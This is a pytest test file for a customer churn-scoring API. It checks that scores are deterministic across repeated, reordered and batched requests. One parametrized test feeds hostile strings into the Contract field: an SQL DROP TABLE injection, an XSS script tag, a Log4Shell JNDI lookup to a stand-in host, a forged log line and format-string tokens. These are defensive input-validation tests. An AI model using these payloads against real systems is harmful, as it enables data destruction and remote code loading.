"""A customer always has the same score: repeated, reordered, alone or in a batch (rows A48 to A50)."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import numpy as np
import pytest

from churn_core.data import generate_sample_data
from tests.functional.score_api.score_client import post

if TYPE_CHECKING:
    from churn_core.scoring.predictor import ChurnPredictor


@pytest.fixture(scope="module")
def customers() -> list[dict[str, Any]]:
    table = generate_sample_data(200, seed=21).drop(columns="Churn")
    return [
        {str(name): None if value != value else value for name, value in row.items()}
        for row in table.astype(object).to_dict(orient="records")
    ]


def scores(customers: list[dict[str, Any]]) -> list[dict[str, Any]]:
    content = post("/predict/batch", {"customers": customers}).content
    predictions: list[dict[str, Any]] = content["predictions"]
    return predictions


def without_values(answer: dict[str, Any]) -> dict[str, Any]:
    """Return an answer without the caller's own values, which its reasons repeat."""
    reasons = [{name: part for name, part in r.items() if name != "value"} for r in answer["reasons"]]
    return answer | {"reasons": reasons}


@pytest.mark.parametrize(
    "value",
    [
        "'; DROP TABLE customers; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        '{"level": "CRITICAL"}\n{"forged": true}',
        "%s%n{0}{__class__}",
        "\u2028\u2029\u0085",
    ],
)
def test_a48_hostile_text_is_scored_as_an_unknown_category(customer: dict[str, Any], value: str) -> None:
    answer = post("/predict", customer | {"Contract": value})
    plain = post("/predict", customer | {"Contract": "never seen"})

    assert (answer.status, answer.content["warnings"]) == (200, ["Contract"])
    assert without_values(answer.content) == without_values(plain.content)
    assert len(answer.log_lines) == 1  # Parsed as one JSON object per line.
    assert "forged" not in answer.log


def test_a49_a_repeated_request_has_the_same_answer(customers: list[dict[str, Any]]) -> None:
    assert scores(customers) == scores(customers)


def test_a49_neither_order_nor_other_customers_change_a_score(customers: list[dict[str, Any]]) -> None:
    together = scores(customers)
    order = np.random.default_rng(3).permutation(len(customers)).tolist()
    assert scores([customers[row] for row in order]) == [together[row] for row in order]
    for row in range(0, len(customers), 17):
        assert post("/predict", customers[row]).content == together[row]


def test_a49_the_library_gives_the_same_scores(
    customers: list[dict[str, Any]], predictor: ChurnPredictor
) -> None:
    assert scores(customers) == predictor.predict(customers)
